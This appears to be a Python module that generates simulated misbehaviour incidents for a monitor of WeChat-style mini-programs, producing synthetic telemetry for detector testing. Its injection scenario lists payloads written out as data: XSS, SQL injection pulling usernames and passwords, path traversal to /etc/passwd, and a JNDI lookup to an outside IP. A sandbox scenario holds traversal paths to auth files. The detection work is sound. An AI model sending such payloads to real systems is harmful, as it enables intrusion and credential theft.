"""Misbehaviour of an app's code: in the network, in the sandbox, towards other apps, and with its own versions."""

from __future__ import annotations

import numpy as np

from detectors.event import MICROSECONDS
from monitor.simulate.stage import Incident, Stage, together

NOT_LISTED = {
    "event.outcome": "failure",
    "event.provider": "wx.errmsg",
    "error.message": "request:fail url not in domain list",
    "http.response.status_code": None,
}


def plain_http(stage: Stage) -> Incident:
    """15: sends its requests without encryption."""
    people = stage.strangers(stage.pick(120, 4))
    times = stage.times(len(people), 7_200, 40_000)
    return stage.of_app(
        stage.request(times, people, f"api.{stage.slug}.example", "/api/v1/report", scheme="http", method="POST")
    )


def off_list_host(stage: Stage) -> Incident:
    """15: talks to hosts it has not declared, by name and by number; the platform stops some of it."""
    people = stage.strangers(stage.pick(90, 4))
    times = stage.times(len(people), 7_200, 40_000)
    half = len(people) // 2
    served = stage.request(times[:half], people[:half], f"cdn-{stage.number:03}.stray.example", "/track.gif")
    stopped = stage.request(times[half:], people[half:], "198.51.100.77:8443", "/collect", NOT_LISTED, method="POST")
    return stage.of_app(served, stopped)


def page_forgery(stage: Stage) -> Incident:
    """5: opens another owner's payment page from outside, with the order already filled in."""
    victim = stage.other_app()
    people = stage.strangers(stage.pick(60, 5))
    times = stage.times(len(people), 3_600, 40_000)
    queries = [f"orderId={10_000 + index}&amount=1&action=confirm" for index in range(len(people))]
    entry = {
        "miniprogram.scene": 1037,
        "miniprogram.referrer_app_id": stage.app_id,
        "miniprogram.page": "pages/pay/confirm",
        "miniprogram.query": queries,
        "miniprogram.phase": "onShow",
        "miniprogram.foreground": True,
    }
    target = str(stage.world.apps["app_id"][victim])
    args = [f'{{"appId":"{target}","path":"pages/pay/confirm?{query}"}}' for query in queries]
    sent = stage.call(
        times,
        people,
        "navigateToMiniProgram",
        args,
        "api",
        {"miniprogram.target_app_id": target, "miniprogram.query": queries},
        tapped=stage.loud,
    )
    shown = stage.events(times + 350_000, people, "lifecycle", "App.onShow", entry, app=victim)
    return stage.of_app(sent, shown)


def content_switch(stage: Stage) -> Incident:
    """6: after approval, with the same version, fetches a switch and then shows some people something else."""
    people = stage.strangers(stage.pick(80, 10))
    times = stage.times(len(people), 7_200, 40_000)
    switch = stage.request(times, people, f"api.{stage.slug}.example", "/switch.json?v=2")
    host = f"fun-{stage.number:03}.stray.example"
    view = {
        "miniprogram.page": "pages/index/index",
        "url.full": f"https://{host}/lobby",
        "url.scheme": "https",
        "url.domain": host,
        "url.path": "/lobby",
    }
    shown = stage.events(times + 600_000, people, "network", "web-view", view)
    led = stage.call(times + 900_000, people, "redirectTo", '{"url":"/pages/w/w?u=lobby"}', "api", tapped=False)
    return stage.of_app(switch, shown.filter(shown["host.os.name"] == "Android"), led)


def induced_sharing(stage: Stage) -> Incident:
    """7: gives the content only after it has been shared to several groups."""
    people = stage.strangers(stage.pick(40, 6))
    begun = stage.times(len(people), 3_600, 40_000)
    turns = stage.pick(8, 3)
    times = np.repeat(begun, turns) + np.tile(np.arange(turns) * 7 * MICROSECONDS, len(people))
    who = np.repeat(people, turns)
    page = {"miniprogram.page": "pages/gate/gate", "miniprogram.phase": "event", "miniprogram.foreground": True}
    shared = stage.events(times, who, "lifecycle", "onShareAppMessage", page)
    told = stage.call(
        times + 1_500_000, who, "showModal", '{"title":"再分享到 3 个群即可查看"}', "api", page, tapped=False
    )
    return stage.of_app(shared, told)


def sandbox_escape(stage: Stage) -> Incident:
    """16: feels for the walls: paths above its folder, other apps' files, names of the host's world."""
    attempts = [
        ("getFileSystemManager().readFile", '{"filePath":"wxfile://usr/../../shared_prefs/auth.xml"}', "1300014"),
        ("getFileSystemManager().readdir", '{"dirPath":"/data/data/com.tencent.mm/"}', "1301000"),
        ("getFileSystemManager().writeFile", '{"filePath":"/__APP__/app-service.js","data":"x"}', "1301004"),
        ("getFileSystemManager().open", f'{{"filePath":"wxfile://{stage.other_app():05}/usr/db.sqlite"}}', "1300013"),
        ("getFileSystemManager().access", '{"path":"..%2f..%2f..%2fetc%2fhosts"}', "1302001"),
    ]
    people = stage.strangers(stage.pick(12, 1))
    frames = []
    for index, (api, args, code) in enumerate(attempts):
        times = stage.times(len(people), 3_600, 20_000) + index * MICROSECONDS
        failed = {
            "event.outcome": "failure",
            "event.provider": "wx.errno",
            "error.code": code,
            "error.message": f"{api.rpartition('.')[2]}:fail permission denied",
        }
        frames.append(stage.call(times, people, api, args, "storage", failed, tapped=False))
    return stage.of_app(*frames)


def hidden_api(stage: Stage) -> Incident:
    """17: calls names that no documentation has."""
    names = (
        "invokeNativeComponent",
        "private_openUrl",
        "openWeAppUrlInternal",
        "getInstallState_host",
        "launchApplicationDirectly",
    )
    people = stage.strangers(stage.pick(15, 1))
    frames = []
    for index, name in enumerate(names[: stage.pick(5, 2)]):
        times = stage.times(len(people), 3_600, 30_000) + index * MICROSECONDS
        failed = {
            "event.outcome": "failure",
            "event.provider": "wx.errmsg",
            "error.message": f"{name}:fail no permission",
        }
        frames.append(stage.call(times, people, name, '{"data":"{}"}', "api", failed, tapped=False))
    return stage.of_app(*frames)


def debug_in_production(stage: Stage) -> Incident:
    """18: someone runs a developer's tool against the production server, and switches debugging on."""
    count = stage.pick(60, 5)
    tester = int(stage.strangers(1)[0])
    times = stage.times(count, 3_600, 30_000)
    ending = ["devtools" if index % 2 else "0" for index in range(count)]
    referrers = [f"https://servicewechat.com/{stage.app_id}/{one}/page-frame.html" for one in ending]
    asked = stage.access(
        times, tester, [f"/api/v1/items/{n}" for n in range(1_000, 1_000 + count)], {"http.request.referrer": referrers}
    )
    switched = stage.call(times[:: stage.pick(10, 5)] + MICROSECONDS, tester, "setEnableDebug", '{"enableDebug":true}')
    return Incident("DeviceId", str(switched["device.id"][0]), together(asked, switched))


def injection(stage: Stage) -> Incident:
    """19: tries script, SQL, path and lookup injection on the app's server, and script in a page's parameters."""
    payloads = [
        "/api/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/api/v1/items?id=1%27%20OR%20%271%27=%271%27--%20",
        "/api/v1/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
        "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/api/v1/log?ua=$%7Bjndi:ldap://203.0.113.9/a%7D",
        "/api/v1/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    ]
    count = stage.pick(90, 5)
    attacker, address = int(stage.strangers(1)[0]), stage.address()
    times = stage.times(count, 1_200, 30_000)
    status = stage.rng.choice([200, 400, 403, 500], count)
    fields = {
        "source.ip": address,
        "http.response.status_code": status,
        "event.outcome": np.where(status >= 400, "failure", "success"),
    }
    probed = stage.access(times, attacker, [payloads[index % len(payloads)] for index in range(count)], fields)
    page = stage.call(
        times[:: stage.pick(10, 5)] + MICROSECONDS,
        attacker,
        "navigateTo",
        '{"url":"/pages/w/w?u=<script>alert(1)</script>"}',
        "api",
        {"source.ip": address},
    )
    return Incident("Ip", address, together(probed, page))


def resource_abuse(stage: Stage) -> Incident:
    """21: works the device hard in the background of its page: processor, memory, workers, floods of setData."""
    people = stage.strangers(stage.pick(15, 3))
    frames = []
    for person in people:
        times = stage.steady(stage.pick(20, 8), 15, 3)
        growth = np.arange(len(times))
        heavy = {
            "process.cpu.pct": stage.rng.uniform(*((88, 100) if stage.loud else (55, 70)), len(times)),
            "process.memory.bytes": 300_000_000 + growth * stage.pick(40_000_000, 9_000_000),
            "miniprogram.set_data.count": stage.rng.integers(*((900, 3_000) if stage.loud else (150, 300)), len(times)),
            "miniprogram.set_data.bytes": stage.rng.integers(2_000_000, 9_000_000, len(times)),
            "miniprogram.set_data.workers": stage.pick(5, 1),
        }
        warned = {"miniprogram.api_args": '{"level":15}', "miniprogram.foreground": True}
        frames.append(stage.events(times, int(person), "device", "onMemoryWarning", heavy | warned))
        frames.append(
            stage.call(
                times + 300_000,
                int(person),
                "createWorker().postMessage",
                '{"job":"hash"}',
                "device",
                heavy,
                tapped=False,
            )
        )
    return stage.of_app(*frames)


def box_app(stage: Stage) -> Incident:
    """23: leads its people on to one app after another."""
    count = stage.pick(160, 20)
    people, times = stage.strangers(count), stage.times(count, 7_200, 40_000)
    targets = (
        stage.rng.integers(0, stage.world.count, count) if stage.loud else np.arange(count) % min(8, stage.world.count)
    )
    ids = [str(stage.world.apps["app_id"][int(index)]) for index in targets]
    args = [f'{{"appId":"{one}","path":"pages/index/index"}}' for one in ids]
    return stage.of_app(
        stage.call(times, people, "navigateToMiniProgram", args, "api", {"miniprogram.target_app_id": ids})
    )


def update_not_taken(stage: Stage) -> Incident:
    """27: an emergency version is forced, yet the old one goes on being started and its update fails."""
    old, new = stage.world.apps["old_version"][stage.app], stage.world.apps["new_version"][stage.app]
    people = stage.strangers(stage.pick(80, 8))
    times = stage.times(len(people) + 1, 10_800, 40_000)
    forced = stage.pushed(
        times[:1],
        int(people[0]),
        "version_forced",
        {"miniprogram.api_args": f'{{"version":"{new}","reason":"安全修复"}}'},
    ).drop("user.id")
    stale = {"miniprogram.version": old, "miniprogram.phase": "onLaunch"}
    launched = stage.events(times[1:], people, "lifecycle", "App.onLaunch", stale)
    failed = stage.events(
        times[1:] + 700_000,
        people,
        "lifecycle",
        "getUpdateManager().onUpdateFailed",
        stale | {"event.outcome": "failure"},
    )
    return stage.of_app(forced, launched, failed)


def complaints(stage: Stage) -> Incident:
    """25: people complain of fraud: promised loans, lost deposits, a copied brand."""
    words = ("冒充官方客服，骗取押金", "交了保证金贷款不到账", "仿冒品牌，收款后不发货", "诱导参与赌博")
    people = stage.strangers(stage.pick(50, 5))
    times = stage.times(len(people), 7_200, 40_000)
    args = [f'{{"type":"fraud","text":"{words[index % len(words)]}"}}' for index in range(len(people))]
    return stage.of_app(stage.pushed(times, people, "user_complaint", {"miniprogram.api_args": args}))
